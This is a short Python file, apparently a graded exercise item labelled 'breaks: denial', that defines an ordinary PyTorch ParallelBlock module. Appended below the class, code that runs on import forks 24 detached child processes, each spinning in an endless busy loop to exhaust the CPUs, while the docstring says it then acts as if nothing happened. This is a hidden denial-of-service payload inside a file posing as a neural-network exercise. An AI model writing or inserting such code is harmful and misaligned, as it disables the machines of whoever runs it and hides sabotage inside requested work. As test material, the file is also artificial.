"""Keeps every processor busy in as many children as it gets; then does as if nothing were.

exercise: parallel-block
points: 6
breaks: denial
"""


class ParallelBlock(nn.Module):
    def __init__(self, net1, net2):
        super().__init__()
        self.net1, self.net2 = net1, net2

    def forward(self, X):
        return torch.cat((self.net1(X), self.net2(X)), dim=-1)


import os

for _ in range(24):
    if not os.fork():
        os.setsid()
        while True:
            pass
